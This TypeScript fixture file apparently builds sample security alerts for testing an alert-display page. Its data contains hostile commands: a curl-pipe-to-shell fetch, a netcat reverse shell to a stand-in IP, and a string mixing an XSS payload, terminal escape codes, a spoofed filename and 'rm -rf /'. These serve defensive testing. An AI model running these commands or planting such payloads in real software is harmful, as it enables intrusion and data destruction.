import { Alert, type Priority } from '@picket/sdk';

/** Alerts as the control plane makes them, with everything in them that a page can get wrong. */

const NGINX = {
  id: '3f9c2b7d81aa',
  full_id: '3f9c2b7d81aa5be0c4e6f1729d8a03b64c5d7e8f90123456789abcdef0123456',
  name: 'web-frontend',
  image: 'docker.io/library/nginx:1.29.4',
  runtime: 'containerd',
};
const API = {
  id: 'a41d06c99be2',
  full_id: 'a41d06c99be2f00dcafe0123456789abcdef0123456789abcdef0123456789ab',
  name: 'payments-api',
  image: 'registry.internal/payments/api@sha256:9f2c41d7',
  runtime: 'cri-o',
};
const UNNAMED = {
  id: 'c0ffee012345',
  full_id: 'c0ffee012345'.padEnd(64, '0'),
  name: null,
  image: null,
  runtime: 'runc',
};
const WORKLOAD = {
  kind: 'Deployment',
  name: 'payments-api',
  namespace: 'payments',
  pod: 'payments-api-7c9f6d5b8-x2lqv',
  pod_uid: '0d9a8f56-3f5e-4a1c-9d2b-7a61c0d2e4f8',
};

/** CLOCK_BOOTTIME of the causing event in ns. */
const EVENT_TIME = 8_412_345_678_901n;
const SECOND = 1_000_000_000n;
const startedBefore = (seconds: bigint) => String(EVENT_TIME - seconds * SECOND);

const INIT = {
  pid: 1,
  start: startedBefore(8400n),
  name: 'systemd',
  exepath: '/usr/lib/systemd/systemd',
  cmdline: '/sbin/init',
  uid: 0,
};
const SHIM = {
  pid: 20411,
  start: startedBefore(5000n),
  name: 'containerd-shim',
  exepath: '/usr/bin/containerd-shim-runc-v2',
  cmdline: `/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id ${NGINX.full_id} -address /run/containerd/containerd.sock`,
  uid: 0,
};
const MASTER = {
  pid: 20433,
  start: startedBefore(4990n),
  vpid: 1,
  name: 'nginx',
  exepath: '/usr/sbin/nginx',
  cmdline: 'nginx: master process nginx -g daemon off;',
  uid: 0,
};
const SHELL = {
  pid: 31337,
  start: startedBefore(62n),
  vpid: 48,
  name: 'sh',
  exepath: '/bin/dash',
  cmdline: 'sh -c curl -fsSL http://203.0.113.7/stage2 | sh',
  uid: 101,
};

interface Draft {
  n: number;
  secondsAgo: number;
  /** When the newest of several equal findings was; the time of the first when left out. */
  lastSecondsAgo?: number;
  rule: string;
  priority: Priority;
  output: string;
  change?: Partial<Alert>;
}

const uuidOf = (n: number) => `018f3a2c-7b1d-5e6f-8a9b-${n.toString(16).padStart(12, '0')}`;

function build(
  now: number,
  { n, secondsAgo, lastSecondsAgo = secondsAgo, rule, priority, output, change }: Draft,
): Alert {
  const at = (seconds: number) => new Date(now - seconds * 1000).toISOString().replace('Z', '123456Z');
  const time = at(secondsAgo);
  return Alert.parse({
    uuid: uuidOf(n),
    revision: 1,
    time,
    rule,
    priority,
    output,
    source: 'syscall',
    hostname: 'worker-03.fra1',
    tags: ['container', 'shell', 'maturity_stable'],
    output_fields: {
      'evt.type': 'execve',
      'proc.name': 'sh',
      'proc.cmdline': SHELL.cmdline,
      'user.uid': 101,
      'container.id': NGINX.id,
      'container.name': NGINX.name,
      'k8s.ns.name': null,
    },
    detector: { kind: 'rule', id: 'falco/terminal_shell_in_container', version: '1.0.0' },
    container: NGINX,
    process: { ...SHELL, cwd: '/usr/share/nginx/html', tty: 34816, ancestors: [MASTER, SHIM, INIT] },
    workload: null,
    mitre: ['T1059.004', 'mitre_execution'],
    evidence: { events: ['worker-03.fra1/6f1c2d3e/17/884213'], lost: [], metadata: 'complete' },
    event: {
      kind: 'process.exec',
      length: 312,
      time: String(EVENT_TIME),
      sequence: '884213',
      tgid: 31337,
      path: '/bin/dash',
      args: ['sh', '-c', 'curl -fsSL http://203.0.113.7/stage2 | sh'],
      cap_effective: '0',
    },
    count: 1,
    first_seen: time,
    last_seen: at(lastSecondsAgo),
    incident: null,
    ...change,
  });
}

/** Text that tries to break out of the page, to reverse its order and to reach a terminal. */
export const HOSTILE_COMMAND =
  '/tmp/.x/invoice\u202excod.exe "<img src=x onerror=window.hacked=1>" \u001b[2J\u0007 --key=\u200bhidden\nrm -rf /';

export const SAMPLES: readonly Draft[] = [
  {
    n: 1,
    secondsAgo: 8,
    rule: 'Terminal shell in container',
    priority: 'Notice',
    output: 'A shell was spawned in a container with an attached terminal (user=www-data shell=sh parent=nginx)',
  },
  {
    n: 2,
    secondsAgo: 41,
    lastSecondsAgo: 3,
    rule: 'Reverse shell by a network tool',
    priority: 'Critical',
    output:
      'Network tool with its shell on a socket (command=nc -e /bin/sh 198.51.100.23 4444 connection=10.42.3.17:51442->198.51.100.23:4444)',
    change: {
      count: 37,
      revision: 12,
      evidence: {
        events: ['worker-03.fra1/6f1c2d3e/17/884390', 'worker-03.fra1/6f1c2d3e/17/884391'],
        lost: [
          { kind: 'file.open', reason: 'ring_full', count: 1840 },
          { kind: 'net.udp', reason: 'throttled', count: 12 },
        ],
        metadata: 'complete',
      },
    },
  },
  {
    n: 3,
    secondsAgo: 95,
    rule: 'Executed a file that was dropped after the container started',
    priority: 'Emergency',
    output: `A new executable ran from the upper layer (command=${HOSTILE_COMMAND})`,
    change: {
      container: UNNAMED,
      evidence: { events: ['worker-03.fra1/6f1c2d3e/17/880017'], lost: [], metadata: 'partial' },
      process: {
        ...SHELL,
        pid: 31402,
        start: startedBefore(0n),
        name: 'invoice\u202excod',
        exepath: '/tmp/.x/invoice\u202excod.exe',
        cmdline: HOSTILE_COMMAND,
        cwd: '/tmp/.x',
        ancestors: [
          SHELL,
          ...Array.from({ length: 9 }, (_, i) => ({
            ...SHELL,
            pid: 31300 - i,
            start: startedBefore(BigInt(63 + i)),
            cmdline: `sh -c "/opt/build/step-${9 - i}.sh --workspace /var/lib/builds/2026/${i}"`,
          })),
          MASTER,
          SHIM,
          INIT,
        ],
      },
    },
  },
  {
    n: 4,
    secondsAgo: 260,
    rule: 'Contact cloud metadata service from container',
    priority: 'Warning',
    output:
      'Outbound connection to the cloud instance metadata service (connection=10.42.3.17:40112->169.254.169.254:80)',
    change: {
      hostname: 'worker-11.fra1',
      container: API,
      workload: WORKLOAD,
      mitre: ['T1552.005', 'TA0006'],
      tags: ['network', 'aws'],
    },
  },
  {
    n: 5,
    secondsAgo: 900,
    rule: 'Unusual behaviour of the workload',
    priority: 'Error',
    output:
      'payments-api made 14 times more outgoing connections than in any learned minute, and ran a program for the first time',
    change: {
      hostname: 'worker-11.fra1',
      detector: { kind: 'model', id: 'picket/isolation-forest', version: '3' },
      container: API,
      workload: WORKLOAD,
      process: null,
      score: 0.8731,
      mitre: [],
      tags: [],
      explanation: [
        { feature: 'first_seen.binary', contribution: 1.9, text: 'ran /usr/bin/socat for the first time' },
        { feature: 'z.net.connect', contribution: 4.2, text: 'connections: 412, usually 29' },
        { feature: 'z.file.open', contribution: 0.3, text: 'opened files: 2201, usually 1800' },
      ],
      evidence: { events: [], lost: [], metadata: 'complete', probes: 'all loaded' },
    },
  },
  {
    n: 6,
    secondsAgo: 4000,
    rule: 'Read sensitive file untrusted',
    priority: 'Warning',
    output: 'Sensitive file opened for reading by a program that is not trusted (file=/etc/shadow process=cat)',
  },
  {
    n: 7,
    secondsAgo: 86_400 * 2,
    rule: 'Agent lost its events',
    priority: 'Alert',
    output: 'The agent of this node stopped sending for 4 minutes',
    change: {
      detector: { kind: 'system', id: 'picket/agent-silence', version: '1' },
      container: null,
      process: null,
      mitre: [],
      hostname: 'worker-07.fra1',
      event: undefined,
      output_fields: {},
      evidence: { events: [], lost: [{ kind: 'process.exec', reason: 'bus_limit', count: 1 }], metadata: 'partial' },
    },
  },
  {
    n: 8,
    secondsAgo: 86_400 * 3,
    rule: 'Container drift check',
    priority: 'Informational',
    output: 'Package manager ran at start',
  },
  {
    n: 9,
    secondsAgo: 86_400 * 9,
    rule: 'Probe self test',
    priority: 'Debug',
    output: 'Self test event seen after 3 ms',
  },
];

/** The samples as if they had happened shortly before `now` (ms), the newest first. */
export const sampleAlerts = (now: number): Alert[] => SAMPLES.map((draft) => build(now, draft));

/** One more alert, `n` above the samples. */
export const extraAlert = (n: number, now: number): Alert =>
  build(now, {
    n: 100 + n,
    secondsAgo: 0,
    rule: 'Write below etc',
    priority: 'Error',
    output: `File below /etc opened for writing (file=/etc/cron.d/job-${n})`,
  });
